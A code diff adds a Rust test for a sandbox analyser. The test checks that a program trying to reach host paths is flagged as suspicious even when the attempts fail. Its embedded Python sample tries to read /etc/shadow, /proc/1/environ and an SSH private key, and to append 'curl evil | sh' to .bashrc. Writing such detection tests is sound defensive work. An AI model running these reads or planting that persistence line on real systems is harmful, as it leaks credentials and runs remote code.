@@ -784,3 +784,35 @@ print(doctest.testmod())
         "the program's own exec raised no runtime reason: {reasons}"
     );
 }
+
+/// Host secrets, other processes' interfaces and start-up files mostly do not exist inside
+/// the jail, so reaching for them fails; the attempt still makes the program suspicious, and
+/// the report names each path.
+#[test]
+fn attempts_at_host_paths_are_reported_even_when_they_fail() {
+    let program = "import os\n\
+        for path in ('/etc/shadow', '/proc/1/environ', os.path.expanduser('~/.ssh/id_rsa')):\n\
+        \x20   try:\n\
+        \x20       open(path).read()\n\
+        \x20   except OSError as e:\n\
+        \x20       print(path, e.strerror)\n\
+        try:\n\
+        \x20   open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\n\
+        except OSError as e:\n\
+        \x20   print(e)\n";
+    let (report, out) = report_of(program, "20s");
+    out.assert_code(0);
+    assert_eq!(report["verdict"], "suspicious", "{:#}", report["reasons"]);
+    let reasons = report["reasons"].to_string();
+    for (path, class) in [
+        ("/etc/shadow", "a host secret"),
+        ("/proc/1/environ", "other process"),
+        ("/work/.ssh/id_rsa", "a host secret"),
+        ("/work/.bashrc", "runs code later"),
+    ] {
+        assert!(
+            reasons.contains(path) && reasons.contains(class),
+            "{path} ({class}) is not among the reasons: {reasons}"
+        );
+    }
+}
